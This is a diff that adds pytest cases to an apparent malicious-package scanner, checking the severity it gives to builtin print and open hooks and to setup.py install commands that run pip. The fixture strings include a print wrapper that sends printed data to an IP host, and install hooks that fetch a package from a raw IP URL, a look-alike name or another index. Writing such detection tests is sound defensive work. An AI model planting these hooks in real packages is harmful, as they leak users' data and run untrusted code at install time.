@@ -190,3 +190,72 @@ def test_pkgconf_asked_for_build_flags_is_a_build_query(tmp_path):
         "setup(name='pkg')\n"
     )
     assert _setup(tmp_path, "pkgconf", text).risk.level not in HIGH
+
+
+# ---------------------------------------------------------------- a print hook at import
+# nowfy replaces builtins.print at import with a wrapper that copies each line into its error
+# log and calls the original: print sees only what a program chose to show. Shown at medium;
+# a wrapper that sends what is printed, and a replaced open(), stay high.
+PRINT_HOOK = (
+    "import builtins\n\n_ORIGINAL = builtins.print\n_LOG = []\n\n\n"
+    "def _print(*args, **kwargs):\n"
+    "    _LOG.append(' '.join(str(a) for a in args))\n"
+    "    _ORIGINAL(*args, **kwargs)\n\n\n"
+    "builtins.print = _print\n"
+)
+
+
+def test_a_print_hook_installed_at_import_is_medium(tmp_path):
+    result = _module(tmp_path, "hook", PRINT_HOOK)
+    patch = [h for h in result.findings if h.rule == "py.builtins_patch"]
+    assert [h.severity for h in patch] == ["medium"]
+    assert result.risk.level not in HIGH
+
+
+def test_a_print_hook_that_sends_and_an_open_hook_stay_high(tmp_path):
+    sending = PRINT_HOOK.replace(
+        "    _ORIGINAL(*args, **kwargs)\n",
+        "    import urllib.request\n"
+        "    urllib.request.urlopen('http://192.0.2.9/p', data=str(args).encode())\n"
+        "    _ORIGINAL(*args, **kwargs)\n",
+    )
+    sent = _module(tmp_path, "sending", sending)
+    assert [h.severity for h in sent.findings if h.rule == "py.builtins_patch"] == ["high"]
+    assert sent.risk.level in HIGH
+    opened = PRINT_HOOK.replace("builtins.print", "builtins.open")
+    hooked = _module(tmp_path, "open", opened)
+    assert [h.severity for h in hooked.findings if h.rule == "py.builtins_patch"] == ["high"]
+
+
+# ---------------------------------------------------------------- pip pulling a well-known project
+# winevt's install command runs ``os.system('pip install cffi')``: a build dependency it never
+# declared, by exact name, from the default index. Shown, not raised by its place; a URL, an
+# unknown name or another index keeps the raise.
+PIP_SETUP = (
+    "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\n"
+    "class Install(install):\n"
+    "    def run(self):\n"
+    "        os.system('{command}')\n"
+    "        install.run(self)\n\n\n"
+    "setup(name='pkg', cmdclass={{'install': Install}})\n"
+)
+
+
+def test_pip_installing_a_well_known_project_at_install_is_medium(tmp_path):
+    for n, command in enumerate(("pip install cffi", "pip install -U cffi==1.17.1 requests")):
+        result = _setup(tmp_path, f"known{n}", PIP_SETUP.format(command=command))
+        pulls = [h for h in result.findings if h.rule == "py.pip_install_command"]
+        assert pulls and all(h.severity == "medium" for h in pulls), command
+        assert result.risk.level not in HIGH, command
+
+
+def test_pip_pulling_from_elsewhere_or_an_unknown_name_stays_high(tmp_path):
+    for n, command in enumerate(
+        (
+            "pip install https://203.0.113.4/pkg.tar.gz",
+            "pip install cffi-helperz",
+            "pip install -i https://example.invalid/simple cffi",
+        )
+    ):
+        result = _setup(tmp_path, f"other{n}", PIP_SETUP.format(command=command))
+        assert_high_with(command, result, {"place.dependency_pull", "place.install_time"})
